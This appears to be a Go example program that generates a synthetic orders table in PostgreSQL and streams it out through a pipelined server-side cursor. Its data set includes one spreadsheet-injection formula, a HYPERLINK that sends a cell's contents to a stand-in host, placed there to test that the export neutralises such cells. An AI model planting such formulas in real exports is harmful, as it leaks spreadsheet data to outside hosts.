package main

import (
	"context"
	"errors"
	"fmt"
	"iter"
	"log/slog"
	"strconv"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"github.com/jackc/pgx/v5/pgtype"
	"github.com/jackc/pgx/v5/pgxpool"
)

// Order is one row of the export. The csv tags name the columns of the CSV
// header and the keys of the NDJSON objects (the json tags, the same, are
// for a client that decodes them with encoding/json).
type Order struct {
	ID       int64     `csv:"id" json:"id"`
	Customer string    `csv:"customer" json:"customer"`
	Email    string    `csv:"email" json:"email"`
	Country  string    `csv:"country" json:"country"`
	Total    string    `csv:"total" json:"total"` // numeric(10,2), as PostgreSQL writes it
	Status   string    `csv:"status" json:"status"`
	PlacedAt time.Time `csv:"placed_at" json:"placed_at"`
	Note     string    `csv:"note" json:"note"`
}

// The data set is made by formula, the same in Go (Generated) and in SQL
// (fillSQL), so that an export from PostgreSQL and one of the generated
// rows are the same bytes, which the tests check.
var (
	countries = [...]string{"DE", "FR", "US", "JP", "BR", "IN", "ZA", "SE"}
	statuses  = [...]string{"placed", "paid", "shipped", "delivered", "refunded"}
	epoch     = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
)

// formulaNote is the note of every thousandth order: a cell that a
// spreadsheet would run, which the export neutralises.
const formulaNote = `=HYPERLINK("http://example.com/?"&A1,"click")`

// order fills o with order number g of the data set.
func order(o *Order, g int64) {
	o.ID = g
	o.Customer = "Customer " + strconv.FormatInt(g, 10)
	o.Email = "customer" + strconv.FormatInt(g, 10) + "@example.com"
	o.Country = countries[g%int64(len(countries))]
	cents := (g * 7919) % 100000
	o.Total = strconv.FormatInt(cents/100, 10) + "." + strconv.FormatInt(cents%100/10, 10) + strconv.FormatInt(cents%10, 10)
	o.Status = statuses[g%int64(len(statuses))]
	o.PlacedAt = epoch.Add(time.Duration(g) * 3 * time.Second)
	o.Note = "ok"
	if g%1000 == 0 {
		o.Note = formulaNote
	}
}

// Generated is the data set of n orders, made as it is read: it holds one
// row at a time, whatever n is.
func Generated(n int64) iter.Seq[Order] {
	return func(yield func(Order) bool) {
		var o Order
		for g := int64(1); g <= n; g++ {
			order(&o, g)
			if !yield(o) {
				return
			}
		}
	}
}

const (
	table = "runnel_export_orders"

	createSQL = `CREATE TABLE IF NOT EXISTS ` + table + ` (
	id        bigint PRIMARY KEY,
	customer  text NOT NULL,
	email     text NOT NULL,
	country   text NOT NULL,
	total     numeric(10,2) NOT NULL,
	status    text NOT NULL,
	placed_at timestamptz NOT NULL,
	note      text NOT NULL
)`

	// fillSQL inserts orders $1 to $2 of the data set, made as order makes
	// them.
	fillSQL = `INSERT INTO ` + table + `
SELECT g,
       'Customer ' || g,
       'customer' || g || '@example.com',
       (ARRAY['DE','FR','US','JP','BR','IN','ZA','SE'])[1 + g % 8],
       ((g * 7919) % 100000) / 100.0,
       (ARRAY['placed','paid','shipped','delivered','refunded'])[1 + g % 5],
       timestamptz '2026-01-01 00:00:00+00' + g * interval '3 seconds',
       CASE WHEN g % 1000 = 0 THEN '=HYPERLINK("http://example.com/?"&A1,"click")' ELSE 'ok' END
FROM generate_series($1::bigint, $2::bigint) AS g`

	selectSQL = `SELECT id, customer, email, country, total::text, status, placed_at, note FROM ` + table + ` ORDER BY id`

	// cursorName is the server-side cursor of an export; it lives in the
	// export's own transaction, so concurrent exports do not share it.
	cursorName = "runnel_export"
)

// DB is the example's PostgreSQL database.
type DB struct {
	pool *pgxpool.Pool
	// Batch is the number of rows fetched from the cursor at a time.
	Batch int
}

// applicationName marks the example's connections in pg_stat_activity,
// where the tests look for a query that outlived its download.
const applicationName = "runnel-export-example"

// OpenDB connects to PostgreSQL at url.
func OpenDB(ctx context.Context, url string) (*DB, error) {
	cfg, err := pgxpool.ParseConfig(url)
	if err != nil {
		return nil, err
	}
	if _, ok := cfg.ConnConfig.RuntimeParams["application_name"]; !ok {
		cfg.ConnConfig.RuntimeParams["application_name"] = applicationName
	}
	pool, err := pgxpool.NewWithConfig(ctx, cfg)
	if err != nil {
		return nil, err
	}
	if err := pool.Ping(ctx); err != nil {
		pool.Close()
		return nil, err
	}
	return &DB{pool: pool, Batch: 2000}, nil
}

// Close closes the database's connections.
func (db *DB) Close() { db.pool.Close() }

// Prepare creates the orders table if it does not exist and, if it is
// empty, fills it with n orders of the data set. It returns the number of
// orders in the table.
func (db *DB) Prepare(ctx context.Context, n int64, log *slog.Logger) (int64, error) {
	if _, err := db.pool.Exec(ctx, createSQL); err != nil {
		return 0, fmt.Errorf("create table: %w", err)
	}
	var have int64
	if err := db.pool.QueryRow(ctx, `SELECT count(*) FROM `+table).Scan(&have); err != nil {
		return 0, err
	}
	if have > 0 || n <= 0 {
		return have, nil
	}
	start := time.Now()
	const step = 1_000_000
	for lo := int64(1); lo <= n; lo += step {
		hi := min(lo+step-1, n)
		if _, err := db.pool.Exec(ctx, fillSQL, lo, hi); err != nil {
			return 0, fmt.Errorf("fill table: %w", err)
		}
		if n > step {
			log.Info("filling table", "table", table, "rows", hi, "of", n)
		}
	}
	if _, err := db.pool.Exec(ctx, `ANALYZE `+table); err != nil {
		return 0, err
	}
	log.Info("table filled", "table", table, "rows", n, "took", time.Since(start).Round(time.Millisecond))
	return n, nil
}

// Orders reads every order through a server-side cursor, Batch rows at a
// time, in a read-only transaction of its own: PostgreSQL produces the rows
// as they are fetched, and the example never holds more than two batches,
// whatever the size of the table. A cursor also makes the planner choose a
// plan that returns its first rows fast (cursor_tuple_fraction), so the
// download starts at once even when the query sorts.
//
// The FETCHes are pipelined: the next one is sent before the rows of the
// current one are read, so that PostgreSQL fills the next batch while this
// one is written. (PostgreSQL computes each FETCH whole before it sends it;
// one at a time, the database and the export would take turns, which costs
// about a third of the throughput.)
//
// The iteration ends when ctx ends (the request's context: the client went
// away) or when the loop that ranges over it stops. Then the transaction is
// rolled back, which closes the cursor in the database; a FETCH in flight is
// interrupted by pgx, which then closes its connection, and PostgreSQL ends
// the backend as soon as it sees that.
func (db *DB) Orders(ctx context.Context) iter.Seq2[Order, error] {
	return func(yield func(Order, error) bool) {
		tx, err := db.pool.BeginTx(ctx, pgx.TxOptions{AccessMode: pgx.ReadOnly})
		if err != nil {
			yield(Order{}, err)
			return
		}
		defer func() {
			// The request's context may be over: roll back on one that is
			// not, briefly.
			rctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 2*time.Second)
			defer cancel()
			tx.Rollback(rctx)
		}()
		if _, err := tx.Exec(ctx, `DECLARE `+cursorName+` NO SCROLL CURSOR FOR `+selectSQL); err != nil {
			yield(Order{}, err)
			return
		}
		if err := fetchAll(ctx, tx.Conn(), max(db.Batch, 1), yield); err != nil {
			if ctx.Err() != nil {
				err = errors.Join(context.Cause(ctx), err)
			}
			yield(Order{}, err)
		}
	}
}

// errStopped: the loop over the orders stopped early.
var errStopped = errors.New("stopped")

// fetchAll reads the cursor batch by batch, with the next FETCH always on
// its way, and yields each order. It returns nil at the end of the cursor
// or when yield returns false (whatever happens to the pipeline then, a
// loop that has stopped must not be yielded to again).
func fetchAll(ctx context.Context, conn *pgx.Conn, batch int, yield func(Order, error) bool) error {
	fetch := `FETCH FORWARD ` + strconv.Itoa(batch) + ` FROM ` + cursorName
	binary := []int16{pgx.BinaryFormatCode} // for every column
	p := conn.PgConn().StartPipeline(ctx)
	send := func() error {
		p.SendQueryParams(fetch, nil, nil, nil, binary)
		p.SendFlushRequest() // have the server send it when it is done
		return p.Flush()
	}
	err := func() error {
		if err := send(); err != nil {
			return err
		}
		types := conn.TypeMap()
		var o Order
		dst := [...]any{&o.ID, &o.Customer, &o.Email, &o.Country, &o.Total, &o.Status, &o.PlacedAt, &o.Note}
		// The scan plan of each column, made once: every FETCH of the
		// cursor has the same columns. (pgx.ScanRow would look each one
		// up again for every value, a third of the example's time.)
		var plans []pgtype.ScanPlan
		for {
			if err := send(); err != nil { // the next batch, while this one is read
				return err
			}
			res, err := p.GetResults()
			if err != nil {
				return err
			}
			rr, ok := res.(*pgconn.ResultReader)
			if !ok {
				return fmt.Errorf("FETCH: unexpected %T", res)
			}
			if plans == nil {
				fds := rr.FieldDescriptions()
				if len(fds) != len(dst) {
					rr.Close()
					return fmt.Errorf("FETCH: %d columns, want %d", len(fds), len(dst))
				}
				for i, fd := range fds {
					plans = append(plans, types.PlanScan(fd.DataTypeOID, fd.Format, dst[i]))
				}
			}
			n := 0
			for rr.NextRow() {
				n++
				vals := rr.Values()
				for i, plan := range plans {
					if err := plan.Scan(vals[i], dst[i]); err != nil {
						rr.Close()
						return fmt.Errorf("FETCH: column %s: %w", rr.FieldDescriptions()[i].Name, err)
					}
				}
				o.PlacedAt = o.PlacedAt.UTC()
				if !yield(o, nil) {
					rr.Close()
					return errStopped
				}
			}
			if _, err := rr.Close(); err != nil {
				return err
			}
			if n < batch {
				return nil // the end of the cursor
			}
		}
	}()
	// End the pipeline: a sync point, then Close reads what is still on its
	// way (at most one batch). On a connection that pgx has closed after an
	// error, there is nothing to sync (and writing would race with pgx's
	// own goodbye).
	var serr error
	if !conn.PgConn().IsClosed() {
		serr = p.Sync()
	}
	cerr := p.Close()
	if errors.Is(err, errStopped) {
		// The loop is over: it must not be told anything more.
		return nil
	}
	if err == nil {
		err = errors.Join(serr, cerr)
	}
	return err
}
